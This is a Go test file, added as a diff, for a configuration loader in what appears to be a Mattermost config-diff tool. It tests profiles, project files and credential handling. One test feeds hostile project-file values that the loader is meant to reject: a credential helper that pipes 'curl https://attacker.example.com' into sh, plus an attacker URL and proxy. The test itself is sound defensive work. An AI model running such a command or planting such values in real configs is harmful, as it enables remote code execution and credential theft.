@@ -0,0 +1,224 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+const testUserConfig = `
+default_profile: prod
+profiles:
+  prod:
+    url: https://mm.example.com
+    auth: token
+    ca_cert: certs/internal-ca.pem
+    timeout: 1m
+    retries: 5
+    headers:
+      X-Proxy-User: audit
+    ignore_fields: [ServiceSettings.SiteURL, MetricsSettings.BlockProfileRate]
+    format: json
+  staging:
+    url: https://staging.example.com
+    auth: password
+    username: admin
+`
+
+func writeConfigFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0600); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestLoadToolConfig_UserAndProject(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", home)
+	t.Setenv("HOME", home)
+	userPath := filepath.Join(home, "mm-config-diff", "config.yaml")
+	writeConfigFile(t, userPath, testUserConfig)
+
+	project := t.TempDir()
+	writeConfigFile(t, filepath.Join(project, ProjectConfigFile), `
+default_profile: staging
+profiles:
+  staging:
+    auth: local
+    local_socket: run/mm.socket
+`)
+	workDir := filepath.Join(project, "ci", "jobs")
+	os.MkdirAll(workDir, 0755)
+
+	cfg, err := LoadToolConfig("", workDir)
+	if err != nil {
+		t.Fatalf("LoadToolConfig failed: %v", err)
+	}
+	if len(cfg.Files) != 2 {
+		t.Fatalf("Files = %v", cfg.Files)
+	}
+
+	// The project file's default and profile win.
+	p, name, err := cfg.Profile("")
+	if err != nil || name != "staging" {
+		t.Fatalf("default profile = %q, %v", name, err)
+	}
+	if p.Auth != AuthLocal || p.LocalSocket != filepath.Join(project, "run", "mm.socket") {
+		t.Errorf("staging = %+v", p)
+	}
+
+	p, _, err = cfg.Profile("prod")
+	if err != nil {
+		t.Fatalf("Profile(prod) failed: %v", err)
+	}
+	if p.URL != "https://mm.example.com" || p.Format != "json" || len(p.IgnoreFields) != 2 {
+		t.Errorf("prod = %+v", p)
+	}
+	if p.Timeout == nil || *p.Timeout != time.Minute || p.Retries == nil || *p.Retries != 5 {
+		t.Errorf("timeout/retries = %v/%v", p.Timeout, p.Retries)
+	}
+	if p.CACert != filepath.Join(home, "mm-config-diff", "certs", "internal-ca.pem") {
+		t.Errorf("CACert not resolved against the config file: %q", p.CACert)
+	}
+	if p.Headers["X-Proxy-User"] != "audit" {
+		t.Errorf("headers = %v", p.Headers)
+	}
+
+	_, _, err = cfg.Profile("dev")
+	if err == nil || !strings.Contains(err.Error(), "prod, staging") {
+		t.Errorf("expected unknown profile error listing profiles, got %v", err)
+	}
+}
+
+func TestLoadToolConfig_ProjectFileRestricted(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", home)
+	t.Setenv("HOME", home)
+
+	for _, key := range []string{
+		"url: https://attacker.example.com",
+		"credential_helper: '!curl https://attacker.example.com | sh'",
+		"headers:\n      Authorization: Bearer x",
+		"insecure_skip_verify: true",
+		"proxy: http://attacker.example.com:3128",
+	} {
+		content := "profiles:\n  prod:\n    " + key + "\n"
+		project := t.TempDir()
+		writeConfigFile(t, filepath.Join(project, ProjectConfigFile), content)
+		_, err := LoadToolConfig("", project)
+		name, _, _ := strings.Cut(key, ":")
+		if err == nil || !strings.Contains(err.Error(), "sets "+name) {
+			t.Errorf("%s: error = %v, want it rejected in a project file", name, err)
+		}
+
+		// The same file is accepted when named explicitly.
+		if _, err := LoadToolConfig(filepath.Join(project, ProjectConfigFile), ""); err != nil {
+			t.Errorf("%s: explicit file rejected: %v", name, err)
+		}
+	}
+}
+
+func TestLoadToolConfig_Explicit(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	dir := t.TempDir()
+	path := filepath.Join(dir, "tool.yaml")
+	writeConfigFile(t, path, testUserConfig)
+
+	cfg, err := LoadToolConfig(path, "")
+	if err != nil {
+		t.Fatalf("LoadToolConfig failed: %v", err)
+	}
+	if _, name, _ := cfg.Profile(""); name != "prod" {
+		t.Errorf("default profile = %q", name)
+	}
+
+	if _, err := LoadToolConfig(filepath.Join(dir, "missing.yaml"), ""); err == nil {
+		t.Error("expected error for a missing explicit file")
+	}
+}
+
+func TestLoadToolConfig_NoFiles(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	cfg, err := LoadToolConfig("", t.TempDir())
+	if err != nil {
+		t.Fatalf("LoadToolConfig failed: %v", err)
+	}
+	if p, _, err := cfg.Profile(""); p != nil || err != nil {
+		t.Errorf("expected no profile, got %v, %v", p, err)
+	}
+	if _, _, err := cfg.Profile("prod"); err == nil {
+		t.Error("expected error when a profile is requested without a config file")
+	}
+}
+
+func TestLoadToolConfig_Invalid(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	tests := []struct {
+		name    string
+		content string
+	}{
+		{"unknown key", "profiles:\n  prod:\n    urll: https://mm.example.com\n"},
+		{"unknown auth", "profiles:\n  prod:\n    auth: kerberos\n"},
+		{"password without username", "profiles:\n  prod:\n    auth: password\n"},
+		{"bad timeout", "profiles:\n  prod:\n    timeout: soon\n"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), "tool.yaml")
+			writeConfigFile(t, path, tt.content)
+			if _, err := LoadToolConfig(path, ""); err == nil {
+				t.Error("expected error")
+			}
+		})
+	}
+}
+
+func TestFormatProfileList(t *testing.T) {
+	cfg := &ToolConfig{
+		Files: []string{"/etc/mm/config.yaml"},
+		Profiles: map[string]*Profile{
+			"prod":  {URL: "https://mm.example.com", Auth: AuthToken},
+			"local": {Auth: AuthLocal},
+		},
+	}
+	out := FormatProfileList(cfg, "prod")
+	if !strings.Contains(out, "* prod") || !strings.Contains(out, "unix://"+DefaultLocalSocket) {
+		t.Errorf("unexpected profile list:\n%s", out)
+	}
+	if strings.Index(out, "local") > strings.Index(out, "prod") {
+		t.Errorf("profiles should be sorted:\n%s", out)
+	}
+}
+
+func TestProfileEnv_ExplicitProfileIgnoresExportedToken(t *testing.T) {
+	t.Setenv("MM_TOKEN", "token-for-another-server")
+	t.Setenv("MM_CONFIG_DSN", "postgres://other/mattermost")
+	tokenFile := writeTestFile(t, t.TempDir(), "token", []byte("profile-token\n"))
+	if err := os.Chmod(tokenFile, 0600); err != nil {
+		t.Fatal(err)
+	}
+	p := &Profile{URL: "https://mm.example.com", TokenFile: tokenFile}
+
+	env := p.Env(true)
+	if env.ConfigDSN != "" || flagOrEnv("", env.ConfigDSN) != "" {
+		t.Errorf("MM_CONFIG_DSN should not override the profile's url")
+	}
+	opts := CredentialOptions{Token: flagOrEnv("", env.Token), TokenFile: flagOrProfileOrEnv("", env.TokenFile, p.TokenFile)}
+	creds, err := ResolveCredentials(opts, strings.NewReader(""))
+	if err != nil {
+		t.Fatalf("ResolveCredentials() error: %v", err)
+	}
+	if _, ok := creds.Token.(FileCredential); !ok {
+		t.Errorf("token source = %#v, want the profile's token_file", creds.Token)
+	}
+
+	// A profile selected implicitly keeps the environment first.
+	if env := p.Env(false); flagOrEnv("", env.Token) != "token-for-another-server" {
+		t.Error("MM_TOKEN should apply to a default profile")
+	}
+}